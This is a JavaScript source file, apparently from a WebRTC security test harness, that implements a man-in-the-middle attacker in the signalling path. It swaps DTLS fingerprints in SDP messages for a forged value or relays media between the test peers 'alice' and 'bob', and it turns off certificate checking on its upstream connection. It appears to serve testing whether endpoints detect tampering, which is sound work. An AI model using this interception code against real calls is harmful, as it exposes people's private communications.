// SPDX-License-Identifier: GPL-2.0-or-later
// An attacker in the signalling path: alice talks to it instead of to the server. It changes only the fingerprints
// ("fingerprint", "fingerprint-to-alice", "nothing") or relays the media as well (see relay.js).
'use strict';
const crypto = require('crypto');
const fs = require('fs');
const http = require('http');
const https = require('https');
const path = require('path');
const WebSocket = require('ws');
const { config, tell, serve } = require('../peers/line');

const log = [];
const note = text => log.push(text);
const invented = `sha-256 ${crypto.randomBytes(32).toString('hex').toUpperCase().match(/../g).join(':')}`;

/** Each engine gives { receive, report, close } for one call; send(side, message) goes to a victim. */
const engines = {
    async wrtc(send) {
        const { RTCPeerConnection } = require('@roamhq/wrtc');
        const { Relay } = require('./relay');
        const relay = new Relay(RTCPeerConnection, config.change, send, note);
        const receive = (side, message) => relay.receive(side, message);
        return { receive, report: async () => relay.report(), close() {} };
    },

    async browser(send) {
        const { pageUrl, keyLog } = config;
        const { page, close } = await require('../peers/browser').open(config.engine, { pageUrl, keyLog });
        await page.exposeFunction('sendToVictim', (side, message) => send(side, JSON.parse(message)));
        await page.exposeFunction('takeNote', text => note(text));
        await page.evaluate(fs.readFileSync(path.join(__dirname, 'relay.js'), 'utf8'));
        await page.evaluate(change => {
            window.relay = new Relay(RTCPeerConnection, change,
                (side, message) => sendToVictim(side, JSON.stringify(message)), text => takeNote(text));
        }, config.change);
        return {
            receive: (side, message) =>
                page.evaluate((from, text) => relay.receive(from, JSON.parse(text)), side, JSON.stringify(message)),
            report: () => page.evaluate(() => relay.report()),
            close,
        };
    },

    async none(send) {
        const replace = sdp => sdp.replace(/^a=fingerprint:[^\r\n]*/gm, `a=fingerprint:${invented}`);
        return {
            async receive(side, message) {
                const other = side === 'alice' ? 'bob' : 'alice';
                const wanted = ['fingerprint', `fingerprint-to-${other}`].includes(config.change);
                send(other, message.sdp && wanted ? { ...message, sdp: replace(message.sdp) } : message);
            },
            report: async () => ({ local: [invented] }),
            close() {},
        };
    },
};

const sockets = {};
const send = (side, message) => sockets[side].send(JSON.stringify(message));

(async () => {
    const kind = !config.engine ? 'none' : config.engine === 'wrtc' ? 'wrtc' : 'browser';
    const engine = await engines[kind](send);
    const { tls } = config;
    const listener = tls
        ? https.createServer({ key: fs.readFileSync(tls.key), cert: fs.readFileSync(tls.certificate) })
        : http.createServer();
    const server = new WebSocket.WebSocketServer({ server: listener, perMessageDeflate: false });
    listener.listen(config.port);
    server.on('connection', alice => {
        const bob = new WebSocket(config.upstream, { perMessageDeflate: false, rejectUnauthorized: false });
        const opened = new Promise(resolve => bob.on('open', resolve));
        Object.assign(sockets, { alice, bob });
        const hear = async (side, data) => {
            const message = JSON.parse(data);
            await opened;
            if (['offer', 'answer', 'candidate'].includes(message.type))
                await engine.receive(side, message);
            else
                send(side === 'alice' ? 'bob' : 'alice', message);
        };
        alice.on('message', data => hear('alice', data));
        bob.on('message', data => hear('bob', data));
        alice.on('close', () => bob.close());
        bob.on('close', () => alice.close());
    });
    serve({
        report: async () => ({ ...await engine.report(), engine: config.engine, log }),
        quit: async () => { await engine.close(); server.close(); listener.close(); },
    });
    tell('ready');
})().catch(error => {
    tell('error', { message: String(error) });
    process.exit(1);
});
